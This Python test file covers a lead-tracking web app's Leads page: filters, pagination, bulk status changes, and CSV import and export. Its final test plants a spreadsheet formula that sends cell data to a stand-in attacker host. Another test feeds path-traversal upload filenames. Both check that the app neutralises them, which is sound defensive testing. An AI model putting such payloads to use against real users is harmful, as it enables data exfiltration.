"""The Leads page: filters, keyset pages, bulk status, CSV import and export."""

from __future__ import annotations

import csv
import html
import io
import re

from web_support import TestClient, csrf_of, flash_of, post_form

from dmledger.app.ledger import Ledger


def handles_on(page_html: str) -> list[str]:
    return re.findall(r'<th scope="row" class="col-handle"><a href="/lead/([^"]+)">', page_html)


def add_many(ledger: Ledger, count: int) -> list[str]:
    names = [f"lead{n:03d}" for n in range(count)]
    for name in names:
        ledger.add_prospect(name)
    return names


def test_leads_page_lists_leads_in_handle_order(client: TestClient) -> None:
    page = client.get("/leads")
    assert page.status_code == 200
    assert handles_on(page.text) == ["fit.coach", "glow.skin", "no.thanks", "quiet.lead"]


def test_next_page_starts_after_the_last_handle_shown(client: TestClient, ledger: Ledger) -> None:
    names = add_many(ledger, 30)
    first = client.get("/leads", params={"limit": 25})
    shown = handles_on(first.text)
    assert len(shown) == 25
    link = re.search(r'<a class="btn" rel="next" href="([^"]+)"', first.text)
    assert link is not None
    second = client.get(link.group(1).replace("&amp;", "&"))
    rest = handles_on(second.text)
    assert shown + rest == sorted([*names, "fit.coach", "glow.skin", "no.thanks", "quiet.lead"])
    assert 'rel="next"' not in second.text
    assert "First page" in second.text


def test_filters_by_status_owner_operator_search_and_dates(client: TestClient) -> None:
    def shown(**params: str) -> list[str]:
        return handles_on(client.get("/leads", params=params).text)

    assert shown(status="excluded") == ["no.thanks"]
    assert shown(owner="marcus.closes") == ["glow.skin"]
    assert shown(operator="Sarah") == ["fit.coach"]
    assert shown(q="expo") == ["quiet.lead"]
    assert shown(start="2000-01-01", end="2999-12-31") == ["fit.coach", "glow.skin"]
    assert shown(end="2000-01-01") == []


def test_a_bad_filter_is_explained_not_crashed(client: TestClient) -> None:
    bad_date = client.get("/leads", params={"start": "yesterday"})
    assert bad_date.status_code == 422
    assert "YYYY-MM-DD" in bad_date.text
    bad_status = client.get("/leads", params={"status": "keen"})
    assert bad_status.status_code == 422 and "'keen'" in html.unescape(bad_status.text)


def test_count_is_asked_for_separately(client: TestClient) -> None:
    assert client.get("/leads/count").json() == {"count": 4}
    assert client.get("/leads/count", params={"status": "excluded"}).json() == {"count": 1}
    assert (
        'data-count-src="/leads/count?status=excluded"'
        in client.get("/leads", params={"status": "excluded"}).text
    )


def test_bulk_status_change_sets_every_ticked_lead(client: TestClient, ledger: Ledger) -> None:
    response = post_form(
        client,
        "/leads/status",
        {"status": "cold", "handles": ["glow.skin", "fit.coach"], "next": "/leads"},
        page="/leads",
    )
    assert flash_of(client, response) == "2 leads set to cold."
    assert ledger.card("glow.skin").status == "cold"
    assert ledger.card("fit.coach").status == "cold"
    assert ledger.card("quiet.lead").status == "new"


def test_bulk_status_change_reports_leads_it_could_not_change(client: TestClient) -> None:
    response = post_form(
        client,
        "/leads/status",
        {"status": "warm", "handles": ["glow.skin", "gone.away"], "next": "/leads"},
        page="/leads",
    )
    message = flash_of(client, response)
    assert "1 leads set to warm" in message
    assert "gone.away" in message


def test_bulk_status_change_with_nothing_ticked_is_explained(client: TestClient) -> None:
    response = post_form(client, "/leads/status", {"status": "warm", "next": "/leads"})
    assert "no leads selected" in flash_of(client, response)


def test_csv_export_has_every_matching_lead(client: TestClient, ledger: Ledger) -> None:
    add_many(ledger, 12)
    response = client.get("/leads/export.csv", params={"q": "lead0"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["handle"] for r in rows] == [f"lead{n:03d}" for n in range(12)]
    assert set(rows[0]) >= {"handle", "status", "owner_actor", "notes", "first_contacted"}


def test_csv_import_reports_like_the_cli(client: TestClient, ledger: Ledger) -> None:
    content = (
        "Name,Instagram\n"
        "A,@Brand.New\n"
        "B,https://www.instagram.com/second.one/?igsh=1\n"
        "C,glow.skin\n"
        "D,@brand.new\n"
        "E,bad..handle\n"
    )
    token = csrf_of(client, "/leads/import")
    response = client.post(
        "/leads/import",
        data={"csrf_token": token, "status": "warm"},
        files={"file": ("leads.csv", content.encode(), "text/csv")},
    )
    assert response.status_code == 200
    stats = dict(re.findall(r'data-stat="(\w+)">(\d+)<', response.text))
    assert stats == {"added": "2", "known": "1", "duplicates": "1", "invalid": "1"}
    assert "bad..handle" in response.text and "line" in response.text.lower()
    assert ledger.card("brand.new").status == "warm"
    assert ledger.card("second.one").known


def test_csv_import_with_an_unknown_column_is_explained(client: TestClient) -> None:
    token = csrf_of(client, "/leads/import")
    response = client.post(
        "/leads/import",
        data={"csrf_token": token, "column": "nope", "next": "/leads/import"},
        files={"file": ("leads.csv", b"handle\nabc\n", "text/csv")},
    )
    assert "column 'nope'" in flash_of(client, response)


def test_csv_import_reads_an_excel_file_and_refuses_a_picture(
    client: TestClient, ledger: Ledger
) -> None:
    token = csrf_of(client, "/leads/import")
    excel = "handle;notes\r\ncafe.owner;Café\r\n".encode("cp1252")
    response = client.post(
        "/leads/import",
        data={"csrf_token": token},
        files={"file": ("excel.csv", excel, "text/csv")},
    )
    assert response.status_code == 200
    assert "cp1252, semicolon-separated" in response.text
    assert ledger.card("cafe.owner").notes == "Café"
    picture = client.post(
        "/leads/import",
        data={"csrf_token": token, "next": "/leads/import"},
        files={"file": ("photo.png", b"\x89PNG\r\n\x1a\n\x00\x00", "image/png")},
    )
    assert picture.status_code < 500
    assert "photo.png is not a CSV file" in flash_of(client, picture)
    # Only a plain name is kept; a path keeps its last part.
    for odd, shown in (
        ("..", "upload.csv"),
        ("../../etc/x.csv", "x.csv"),
        ("a\x1bb.csv", "upload.csv"),
        ("x" * 300, "upload.csv"),
    ):
        answer = client.post(
            "/leads/import",
            data={"csrf_token": token, "next": "/leads/import"},
            files={"file": (odd, b"\x89PNG\r\n\x1a\n\x00", "image/png")},
        )
        assert answer.status_code < 500, odd
        assert flash_of(client, answer).startswith(f"{shown} is not a CSV file"), odd


def test_import_form_page(client: TestClient) -> None:
    page = client.get("/leads/import")
    assert page.status_code == 200
    assert 'enctype="multipart/form-data"' in page.text


def test_csv_export_marks_formula_cells_as_text(
    client: TestClient, ledger: Ledger, auth: dict[str, str]
) -> None:
    # One teammate's note, set through the API, reaches everyone's spreadsheet.
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    patched = client.patch("/api/v1/prospects/glow.skin", json={"notes": hyperlink}, headers=auth)
    assert patched.status_code == 200
    from dmledger.domain.records import Prospect

    leads = {"=": "eq.lead", "+": "plus.lead", "-": "minus.lead", "@": "at.lead"}
    leads |= {"\t": "tab.lead", "\r": "cr.lead"}
    with ledger.local.transaction() as conn:  # as a pull writes them: unvalidated
        for lead, handle in leads.items():
            ledger.local.put_prospect(conn, Prospect(handle, "new", notes=f"{lead}1+1"))
    response = client.get("/leads/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    notes = {row[0]: row[6] for row in rows[1:]}
    assert notes["glow.skin"] == "'" + hyperlink
    assert {notes[handle] for handle in leads.values()} == {f"'{lead}1+1" for lead in leads}
